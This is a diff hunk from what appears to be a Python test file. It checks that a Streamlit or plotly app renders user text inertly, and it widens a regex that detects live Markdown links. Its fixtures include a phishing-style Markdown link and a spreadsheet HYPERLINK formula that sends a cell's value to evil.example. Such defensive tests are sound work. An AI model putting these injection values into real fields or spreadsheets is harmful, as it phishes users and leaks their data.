@@ -279,7 +279,8 @@ EVIL_DISPLAY_NAME = "**Boss** [reset your password](http://evil.example/r)"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/"&B2,"Open report")'
 # What a live link, image, tag or autolink looks like in Markdown (unescaped) or in plotly's
 # HTML-like labels.
-LIVE_MARKDOWN = re.compile(rb"(?<!\\)<a\s|(?<!\\)\]\(|(?<!\\)!\[|https?://|(?<!\\)\*\*Boss")
+LIVE_MARKDOWN = re.compile(
+    rb"(?<!\\)<a\s|(?<!\\)\]\(|(?<!\\)!\[|https?:\\?//|www\\?\.|(?<!\\)\*\*Boss")
 LIVE_HTML = re.compile(rb"<a\s|<img", re.IGNORECASE)
 # Elements whose text Streamlit shows as it is, never as Markdown.
 PLAIN_ELEMENTS = {"dataframe", "selectbox", "multiselect", "text_input", "text_area",
